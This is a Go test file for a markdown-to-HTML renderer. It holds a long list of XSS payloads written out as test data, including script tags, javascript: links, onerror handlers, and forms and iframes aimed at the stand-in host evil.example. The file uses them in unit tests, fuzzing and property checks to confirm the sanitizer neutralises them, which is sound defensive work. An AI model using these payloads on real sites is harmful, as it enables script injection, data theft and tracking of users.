package markdown

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"pgregory.net/rapid"
)

var (
	pump    = strings.Repeat("ab", 32) // a picture that may be shown
	missing = strings.Repeat("cd", 32)
)

func isPicture(sha256 string) bool { return sha256 == pump }

func rendered(t testing.TB, markdown string) string {
	t.Helper()
	s, ok := HTML([]byte(markdown), isPicture)
	if !ok {
		t.Fatalf("too long: %d bytes", len(markdown))
	}
	return s
}

func TestHTML(t *testing.T) {
	for markdown, want := range map[string]string{
		"":                              "",
		"En *liten* og **stor** dag":    "<p>En <em>liten</em> og <strong>stor</strong> dag</p>\n",
		"# Én\n## To\n###### Seks":      "<h3>Én</h3>\n<h4>To</h4>\n<h6>Seks</h6>\n",
		"- a\n- b\n\n3. c\n4. d":        "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<ol start=\"3\">\n<li>c</li>\n<li>d</li>\n</ol>\n",
		"> a\n\n---\n\n`x<y`\n\n    z&": "<blockquote>\n<p>a</p>\n</blockquote>\n<hr>\n<p><code>x&lt;y</code></p>\n<pre><code>z&amp;\n</code></pre>\n",
		"a  \nb":                        "<p>a<br>\nb</p>\n",
		"[les *mer*](https://a.no/b?c=d&e=f#g \"tittel\")": `<p><a href="https://a.no/b?c=d&amp;e=f#g" rel="nofollow noopener">les <em>mer</em></a></p>` + "\n",
		"<https://a.no/>":                                                              `<p><a href="https://a.no/" rel="nofollow noopener">https://a.no/</a></p>` + "\n",
		"[les][1]\n\n[1]: https://a.no":                                                `<p><a href="https://a.no" rel="nofollow noopener">les</a></p>` + "\n",
		"![Pumpen](" + pump + ")":                                                      `<p><img src="/api/v1/attachments/` + pump + `" alt="Pumpen"></p>` + "\n",
		"![Ny *pumpe*](/api/v1/attachments/" + pump + " \"t\")":                        `<p><img src="/api/v1/attachments/` + pump + `" alt="Ny pumpe"></p>` + "\n",
		"[![Pumpen](" + pump + ")](https://a.no)":                                      `<p><a href="https://a.no" rel="nofollow noopener"><img src="/api/v1/attachments/` + pump + `" alt="Pumpen"></a></p>` + "\n",
		"![Borte](" + missing + ")":                                                    "<p>Borte</p>\n",
		"![Utenfra](https://a.no/a.png) ![x](//a.no/a.png)":                            "<p>Utenfra x</p>\n",
		"![x](/api/v1/attachments/" + pump + "?a) ![y](" + strings.ToUpper(pump) + ")": "<p>x y</p>\n",
		"[http](http://a.no) [nær](/b) [fil](file:///b) [//](//a.no)":                  "<p>http nær fil //</p>\n",
		"[post](mailto:a@b.no) <a@b.no> <http://a.no>":                                 "<p>post a@b.no http://a.no</p>\n",
		"før <b onclick=\"x()\">fet</b> etter":                                         "<p>før fet etter</p>\n",
		"<div>borte</div>\n\nher":                                                      "<p>her</p>\n",
		"<!-- borte -->\n\nher <!-- borte --> også":                                    "<p>her  også</p>\n",
		"&lt;script&gt;alert(1)&lt;/script&gt;":                                        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n",
	} {
		if got := rendered(t, markdown); strings.TrimSpace(got) != strings.TrimSpace(want) {
			t.Errorf("%q gives\n%s\nwant\n%s", markdown, got, want)
		}
	}
}

// attacks are what must never come out as anything but text.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<img src="https://evil.example/track.png">`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<math><mtext><img src=x onerror=alert(1)></mtext></math>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="data:text/html,x">`, `<embed src=x>`,
	`<form action="https://evil.example"><input name=fnr></form>`, `<style>*{background:url(https://evil.example)}</style>`, `<p style="position:fixed">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="https://a.no" onclick="alert(1)" target="_blank">x</a>`, `<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<link rel=stylesheet href=https://evil.example>`, `<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea></textarea><script>alert(1)</script>`, `<title><img src=x onerror=alert(1)></title>`,
	`<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?php echo 1 ?>`, `<!DOCTYPE html [<!ENTITY x "y">]>`,
	"<a href=\"java\nscript:alert(1)\">x</a>", `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`, `<x onclick=alert(1) tabindex=0>`,
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x]( javascript:alert(1))`, `[x](&#106;avascript:alert(1))`, `[x](java%0ascript:alert(1))`, `[x](\javascript:alert(1))`,
	"[x](<java\tscript:alert(1)>)", `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](vbscript:x)`, `[x](https:javascript:alert(1))`, `[x](https://)`, `[x](https:///evil)`,
	`[x](https://#a)`, `<https://#a>`, `[x](https://?a)`, `[x](https://a.no@evil.example)`, `[x](https://:443)`,
	`[x](https://a.no/" onmouseover="alert(1))`, `[x](<https://a.no/" onmouseover="alert(1)>)`, `[x](https://a.no 'a" onmouseover="alert(1)')`, `[x](https://a.no/%22%3E%3Cscript%3E)`,
	`<javascript:alert(1)>`, `<data:text/html,x>`, `<https://a.no/"onclick="alert(1)>`, "[x]\n\n[x]: javascript:alert(1)", "[x]\n\n[x]: <data:text/html,x> \"t\"",
	`![x](javascript:alert(1))`, `![x](data:image/svg+xml;base64,PHN2Zz4=)`, `![x" onerror="alert(1)](` + pump + `)`, `![<script>alert(1)</script>](` + pump + `)`,
	`![x](` + pump + ` '" onerror="alert(1)')`, `![[x](javascript:alert(1))](` + pump + `)`, `[![x](javascript:alert(1))](javascript:alert(2))`, `![x](/api/v1/attachments/../events)`,
	"```\"onclick=\"alert(1)\n<script>\n```", "~~~<img src=x onerror=alert(1)>\nx\n~~~", "# <script>alert(1)</script>\n", "# x {onclick=alert(1)}\n", "`<script>`", "    <script>alert(1)</script>",
	"<div\nonclick=alert(1)>\n*x*\n</div>", "<a\x00href=x>", "&#60;script&#62;alert(1)&#60;/script&#62;", "<<script>alert(1)//<</script>", "\\<script>alert(1)\\</script>",
}

// allowed are the attributes that elements may have.
var allowed = map[string][]string{
	"p": nil, "br": nil, "hr": nil, "h3": nil, "h4": nil, "h5": nil, "h6": nil, "blockquote": nil, "pre": nil, "code": nil, "em": nil, "strong": nil,
	"ul": nil, "ol": {"start"}, "li": nil, "a": {"href", "rel"}, "img": {"src", "alt"},
}

// harmlessHTML reads HTML as a browser does and says what in it could do harm.
func harmlessHTML(s string) error {
	for z := html.NewTokenizer(strings.NewReader(s)); ; {
		switch z.Next() {
		case html.ErrorToken:
			return nil
		case html.CommentToken, html.DoctypeToken:
			return fmt.Errorf("%s", z.Token())
		case html.StartTagToken, html.SelfClosingTagToken:
			token := z.Token()
			attributes, ok := allowed[token.Data]
			if !ok {
				return fmt.Errorf("element %s", token)
			}
			for _, a := range token.Attr {
				if !slices.Contains(attributes, a.Key) || !harmlessValue(token, a) {
					return fmt.Errorf("attribute %q=%q in %s", a.Key, a.Val, token)
				}
			}
		}
	}
}

func harmlessValue(token html.Token, a html.Attribute) bool {
	switch a.Key {
	case "href":
		u, err := url.Parse(a.Val)
		related := slices.ContainsFunc(token.Attr, func(a html.Attribute) bool { return a.Key == "rel" && a.Val == "nofollow noopener" })
		return err == nil && u.Scheme == "https" && u.Hostname() != "" && u.User == nil && strings.HasPrefix(a.Val, "https://") && related
	case "src":
		return a.Val == Path+pump
	}
	return true
}

func TestAttacks(t *testing.T) {
	for _, attack := range attacks {
		for _, around := range []string{"%s", "a %s b", "> %s", "- %s", "# %s", "[a %s b](https://a.no)", "![a %s b](" + pump + ")", "*%s*", "<div>\n%s\n</div>", "a\n%s\nb", "[%s]: https://a.no\n\n[%[1]s]"} {
			markdown := fmt.Sprintf(around, attack)
			if s := rendered(t, markdown); harmlessHTML(s) != nil {
				t.Errorf("%q comes out as\n%s\n%v", markdown, s, harmlessHTML(s))
			}
		}
	}
}

// The check itself finds what it is to find.
func TestHarmIsFound(t *testing.T) {
	for _, s := range []string{
		"<script>", "<p onclick=x>", `<a href="https://a.no">`, `<a rel="nofollow noopener" href="javascript:x">`, `<img src="https://a.no/x.png">`,
		`<img src="/api/v1/attachments/` + missing + `">`, "<!-- x -->", "<svg/>",
	} {
		if harmlessHTML(s) == nil {
			t.Errorf("%s passes", s)
		}
	}
}

// Whatever pieces of attacks are put together in whatever order is harmless.
func TestAttacksInPieces(t *testing.T) {
	pieces := append(slices.Clone(attacks),
		"[", "]", "(", ")", "![", "](", "<", ">", "\"", "'", "`", "```", "\n", "\n\n", " ", "\\", "*", "_", "#", "&", ";", ":", "-", "    ", "\t",
		"https://a.no", "javascript:", "onclick=", "script", pump, missing, "é", "\u2028", "\ufeff")
	rapid.Check(t, func(t *rapid.T) {
		markdown := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 20).Draw(t, "pieces"), "")
		s, _ := HTML([]byte(markdown), isPicture)
		if err := harmlessHTML(s); err != nil {
			t.Fatalf("%q comes out as\n%s\n%v", markdown, s, err)
		}
	})
}

func FuzzHTML(f *testing.F) {
	for _, attack := range attacks {
		f.Add([]byte(attack))
	}
	f.Fuzz(func(t *testing.T, markdown []byte) {
		s, _ := HTML(markdown, isPicture)
		if err := harmlessHTML(s); err != nil {
			t.Errorf("%q comes out as\n%s\n%v", markdown, s, err)
		}
	})
}

func TestTooLong(t *testing.T) {
	paragraph := strings.Repeat("x", MaxParagraph-1) + "\n"
	for markdown, want := range map[string]bool{
		paragraph:             true,
		"x" + paragraph:       false,
		paragraph + paragraph: false,
		paragraph + "\n" + paragraph + " \t\r\n" + paragraph:                   true,
		strings.Repeat(strings.Repeat("x", 1023)+"\n\n", MaxSize/1025):         true,
		strings.Repeat(strings.Repeat("x", 1022)+"\n\n", MaxSize/1024) + "x\n": false,
	} {
		if s, ok := HTML([]byte(markdown), isPicture); ok != want || ok == (s == "") {
			t.Errorf("a story of %d bytes: %t, want %t", len(markdown), ok, want)
		}
	}
}

// Stories that were made to take long do not. They take seconds to minutes where
// paragraphs have no limit.
func BenchmarkSlowStories(b *testing.B) {
	for name, piece := range map[string]string{"links": "[a](", "emphasis": "_a*", "quotes": ">", "lists in quotes": ">- ", "brackets": "[a](<"} {
		paragraph := strings.Repeat(piece, (MaxParagraph-2)/len(piece)) + "\n\n"
		markdown := []byte(strings.Repeat(paragraph, MaxSize/len(paragraph)))
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				if _, ok := HTML(markdown, isPicture); !ok {
					b.Fatal("too long")
				}
			}
		})
	}
}
